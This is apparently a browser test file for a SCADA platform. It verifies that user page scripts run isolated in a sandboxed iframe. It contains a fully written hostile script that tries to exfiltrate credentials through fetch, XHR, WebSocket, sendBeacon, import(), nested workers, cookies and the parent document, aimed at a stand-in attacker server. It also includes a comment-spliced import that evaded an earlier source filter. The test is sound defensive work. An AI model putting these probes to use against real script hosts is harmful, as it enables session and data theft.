import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { clickEventSchema, emptyPage } from '@fieldhub/hmi';
import { SCRIPT_HOST_SANDBOX } from '@fieldhub/shared';
import { loggedIn, makePlatformOperator, type Caller } from '../../server/test/harness';
import { deviceWithGateway, made, modbusDriver, variable } from '../../server/test/deviceFixtures';
import { type BrowserFixture, makeEnterprise, startBrowserFixture } from './browser';
import { expectScreenIn, tr, type Lang } from './screenLanguage';
import { namedWidget as widget } from './viewerWidget';

/**
 * Page scripts run isolated (scriptSandbox.ts, public/script-host.html), seen in headless
 * Chromium on the built app: a live device page holds a script report widget and click scripts.
 * A normal click script reads the bound level through api.values and shows its message. Hostile
 * scripts, as a widget and as a click script, try every way out they can name (fetch, XHR,
 * WebSocket, EventSource, import(), importScripts, an image, a font, sendBeacon, a nested worker,
 * the cookie, the parent's document) against the platform's user info and against a second
 * server on another port; the servers count what reaches them and the script sees only errors.
 * An endless loop is stopped at the time limit and the next script still runs: the limit is a
 * timer of the page, run through on Playwright's clock instead of waited for.
 *
 * Languages: the tests run in English; the quick check opens the script page in Chinese and stops
 * an endless script there, its message and the page's texts in Chinese.
 */

let f: BrowserFixture;
let admin: string;
let api: Caller;
let pageId: number;
/** a server standing for the attacker's: counts every connection and would answer anyone */
let sink: Server;
let sinkUrl: string;
let sinkConnections = 0;
/** requests that reached the platform carrying a probe's mark (`probe=` in the query) */
const probesAtPlatform: string[] = [];

/**
 * The probes of a hostile script, run in parallel, each settled within a second: what it got, or
 * its error. The widget draws them as a table; the click script shows them in one message. One
 * import is spelled as in the reported attack (a comment before its parenthesis), which passed the
 * old runner's source check; no such check is left, the host's policy refuses both.
 */
function hostileScript(app: string, sink: string, report: 'table' | 'message'): string {
  return `async function main(api, param, callback) {
  const APP = ${JSON.stringify(app)};
  const SINK = ${JSON.stringify(sink)};
  const info = (probe) => APP + '/lfscada/user/info?probe=' + probe;
  const settled = (target, ok, bad) => new Promise((resolve, reject) => {
    target[ok] = () => resolve(ok);
    target[bad] = () => reject(new Error(bad));
  });
  const nested = 'fetch(' + JSON.stringify(SINK + '/nested') + ').then((r) => r.text())' +
    '.then((t) => postMessage("got " + t), (e) => postMessage("error " + e))';
  const probes = {
    'fetch': () => fetch(info('fetch'), { credentials: 'include' }).then((r) => r.text()),
    'fetch-relative': () => fetch('/lfscada/user/info?probe=fetch-relative').then((r) => r.text()),
    'fetch-sink': () => fetch(SINK + '/fetch').then((r) => r.text()),
    'xhr': () => new Promise((resolve, reject) => {
      const x = new XMLHttpRequest();
      x.open('GET', info('xhr'));
      x.withCredentials = true;
      x.onload = () => resolve(x.responseText);
      x.onerror = () => reject(new Error('xhr error'));
      x.send();
    }),
    'websocket': () => settled(new WebSocket(SINK.replace('http:', 'ws:') + '/socket'), 'onopen', 'onerror'),
    'eventsource': () => settled(new EventSource(SINK + '/events'), 'onopen', 'onerror'),
    'import': () => import(info('import')),
    'import-sink': () => import/**/(SINK + '/module.js'),
    'importScripts': () => importScripts(SINK + '/classic.js'),
    'image': () => { const img = new Image(); img.src = SINK + '/image.png'; return settled(img, 'onload', 'onerror'); },
    'fontface': () => new FontFace('probe', 'url(' + SINK + '/font.woff)').load(),
    'sendBeacon': () => navigator.sendBeacon(SINK + '/beacon', 'x'),
    'nested-worker': () => new Promise((resolve, reject) => {
      const w = new Worker(URL.createObjectURL(new Blob([nested], { type: 'text/javascript' })));
      w.onmessage = (e) => (String(e.data).startsWith('got') ? resolve(e.data) : reject(new Error(e.data)));
      w.onerror = (e) => reject(new Error(e.message));
    }),
    'cookie': () => document.cookie,
    'top-location': () => top.location.href,
    'parent-document': () => parent.document.cookie,
    'origin': () => self.origin,
  };
  const outcome = (fn) => Promise.race([
    Promise.resolve().then(fn).then(
      (v) => 'got: ' + String(v).slice(0, 60),
      (e) => 'error: ' + String((e && e.name) || e) + ' ' + String((e && e.message) || '').slice(0, 60),
    ),
    new Promise((resolve) => setTimeout(() => resolve('none: no answer within 1 s'), 1000)),
  ]);
  const rows = await Promise.all(Object.entries(probes).map(async ([name, fn]) => [name, await outcome(fn)]));
  ${
    report === 'table'
      ? "callback({ columns: ['probe', 'outcome'], rows });"
      : "callback({ message: 'probes ' + rows.map(([n, o]) => n + '=' + o.split(':')[0] + (n === 'origin' ? ':' + o.slice(5) : '')).join(' ') });"
  }
}`;
}

const clickScript = (script: string) =>
  clickEventSchema.parse({ enable: true, config: { action: 'script', script } });

beforeAll(async () => {
  sink = createServer((_req, res) => {
    res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/plain' });
    res.end('leaked');
  });
  sink.on('connection', () => sinkConnections++);
  await new Promise<void>((resolve) => sink.listen(0, '127.0.0.1', resolve));
  sinkUrl = `http://127.0.0.1:${(sink.address() as AddressInfo).port}`;

  f = await startBrowserFixture();
  // every request and socket upgrade that reaches the platform, whoever handles it
  const mark = (url = '') => url.includes('probe=') && probesAtPlatform.push(url);
  f.platform.app.server.on('request', (req: { url?: string }) => mark(req.url));
  f.platform.app.server.on('upgrade', (req: { url?: string }) => mark(req.url));

  ({ admin } = await makeEnterprise(f.platform.ctx.db, 'Sandbox Works'));
  api = await loggedIn(f.platform.app, admin);
  const operator = await loggedIn(f.platform.app, (await makePlatformOperator(f.platform.ctx.db)).operator);
  const device = await deviceWithGateway(api, operator, 'Pump station');
  const driver = await modbusDriver(api, device.owner);
  const level = await variable(api, device.owner, driver, 'tank_level', { dataType: 'float32', unit: 'm' });
  // the level as the gateway would have reported it: the page reads it from the value cache
  await f.platform.ctx.monitor.ingest(
    device.id,
    [{ signalId: level, ts: Date.now(), value: 4.25, quality: 0 }],
    false,
  );
  const bound = { equipId: String(device.id), signalId: String(level), title: 'tank_level' };

  ({ id: pageId } = await made(api, '/lfscada/configuration/page/add', {
    ownerKind: 'equipment',
    ownerId: device.id,
    name: 'Scripts',
  }));
  const document = emptyPage({ title: 'Scripts', width: 1000, height: 700, fit: 'none' });
  document.widgets = [
    widget('UsualDataText', 'level', [20, 20, 200, 40], { data: { ...bound, decimals: 2, unit: 'm' } }),
    widget('UsualButton', 'read-level', [20, 80, 200, 40], {
      data: { text: 'Read level' },
      clickEvent: clickScript(
        `async function main(api, param, callback) {
           const [level] = await api.values([${JSON.stringify({ equipId: bound.equipId, signalId: bound.signalId })}]);
           callback({ message: 'Tank level ' + level + ' m' });
         }`,
      ),
    }),
    widget('UsualButton', 'probe-click', [240, 80, 200, 40], {
      data: { text: 'Probe' },
      clickEvent: clickScript(hostileScript(f.baseUrl, sinkUrl, 'message')),
    }),
    widget('UsualButton', 'endless', [460, 80, 200, 40], {
      data: { text: 'Loop' },
      clickEvent: clickScript('function main() { for (;;) {} }'),
    }),
    widget('ScriptReport', 'probe-table', [20, 140, 900, 540], {
      data: { script: hostileScript(f.baseUrl, sinkUrl, 'table') },
    }),
  ];
  const [row] = (
    await made<{ id: number; version: number }[]>(api, '/lfscada/configuration/page/query', {
      ownerKind: 'equipment',
      ownerId: device.id,
    })
  ).filter((p) => p.id === pageId);
  await made(api, '/lfscada/configuration/page/save', { id: pageId, version: row!.version, document });
}, 180_000);

afterAll(async () => {
  await f?.stop();
  await new Promise((resolve) => sink?.close(resolve));
});

/**
 * Signs in and opens the script page; waits for the bound level to show. With `clock` the page
 * runs on Playwright's clock, which the test moves on.
 */
async function openScriptPage(
  lang: Lang = 'en-US',
  options: { clock?: boolean } = {},
): Promise<{ page: Page; close: () => Promise<void> }> {
  const { context, page } = await f.newPage(lang);
  if (options.clock) await page.clock.install();
  await f.signIn(page, admin, { at: `/monitor/eg/detail/page/${pageId}/0` });
  await expect.poll(() => page.getByTestId('vw-level').innerText(), { timeout: 15_000 }).toContain('4.25');
  return { page, close: () => context.close() };
}

/** The probe table the script widget drew: probe → outcome. */
async function probeTable(page: Page): Promise<Map<string, string>> {
  const table = page.getByTestId('vw-probe-table').getByTestId('script-table');
  await table.waitFor({ timeout: 15_000 });
  const rows = await table
    .locator('tbody tr')
    .evaluateAll((trs) => trs.map((tr) => [...tr.querySelectorAll('td')].map((td) => td.textContent ?? '')));
  return new Map(rows.map(([probe, outcome]) => [probe!, outcome!]));
}

describe('page scripts run isolated', () => {
  it('runs a click script that reads a bound value through api.values and shows its message', async () => {
    const { page, close } = await openScriptPage();
    try {
      // the host is a sandboxed frame without allow-same-origin: an opaque origin without cookies
      const host = page.getByTestId('script-host');
      await host.waitFor({ state: 'attached' });
      expect(await host.getAttribute('sandbox')).toBe(SCRIPT_HOST_SANDBOX);
      expect(await host.evaluate((el) => (el as HTMLIFrameElement).contentDocument)).toBeNull();

      await page.getByTestId('vw-read-level').click();
      await page.getByText('Tank level 4.25 m').waitFor();
    } finally {
      await close();
    }
  });

  it('gets nothing out of a hostile script widget or click script: the servers see no probe', async () => {
    const { page, close } = await openScriptPage();
    try {
      // the widget's probes, one row each, and the same probes from a click script, the way the
      // reported attack came in
      const table = await probeTable(page);
      expect([...table.keys()]).toContain('nested-worker');
      await page.getByTestId('vw-probe-click').click();
      const message = page.getByText(/^The script failed|^probes /);
      await message.waitFor();

      // nothing of it reached the platform or the other server
      expect(probesAtPlatform).toEqual([]);
      expect(sinkConnections).toBe(0);
      // and the scripts saw only errors, in an opaque origin
      expect(table.get('origin')).toBe('got: null');
      for (const [probe, outcome] of table) {
        if (probe !== 'origin') expect(`${probe} ${outcome}`).toMatch(new RegExp(`^${probe} error: `));
      }
      const shown = (await message.innerText()).replace(/^probes /, '').split(' ');
      expect(shown).toEqual(
        [...table.keys()].map((p) => (p === 'origin' ? 'origin=got:null' : `${p}=error`)),
      );

      // controls: the page itself (outside the sandbox) reads the user info with its cookie, and
      // that request is counted; a page of this browser reaches the other server, and that is too
      const leaked = await page.evaluate(() =>
        fetch('/lfscada/user/info?probe=control').then((r) => r.text()),
      );
      expect(leaked).toContain(admin);
      expect(probesAtPlatform).toEqual(['/lfscada/user/info?probe=control']);
      const other = await page.context().newPage();
      await other.goto(`${sinkUrl}/control`);
      expect(await other.locator('body').innerText()).toBe('leaked');
      expect(sinkConnections).toBeGreaterThan(0);
    } finally {
      await close();
    }
  }, 60_000);

  it('stops an endless click script at the time limit and then runs the next script', async () => {
    const { page, close } = await openScriptPage('en-US', { clock: true });
    try {
      await page.getByTestId('vw-endless').click();
      // the page stays responsive while the worker loops
      await page.getByTestId('vw-level').click();
      const failed = page.getByText('The script failed: script did not call back within 5000 ms');
      expect(await failed.count()).toBe(0);
      // the limit's 5 s on the page's clock
      await page.clock.runFor(5_000);
      await failed.waitFor();
      await page.getByTestId('vw-read-level').click();
      await page.getByText('Tank level 4.25 m').waitFor();
    } finally {
      await close();
    }
  }, 60_000);

  it('shows the script page and a stopped script wholly in Chinese', async () => {
    const lang = 'zh-CN';
    const { page, close } = await openScriptPage(lang, { clock: true });
    try {
      await page.getByTestId('vw-endless').click();
      await page.clock.runFor(5_000);
      const message = tr(lang, 'viewer:script.failed', {
        message: 'script did not call back within 5000 ms',
      });
      await page.getByText(message).waitFor();
      await expectScreenIn(page, lang, {
        shows: [{ text: message }],
        allow: ['Scripts', 'Read level', 'Probe', 'Loop'],
      });
    } finally {
      await close();
    }
  }, 60_000);
});
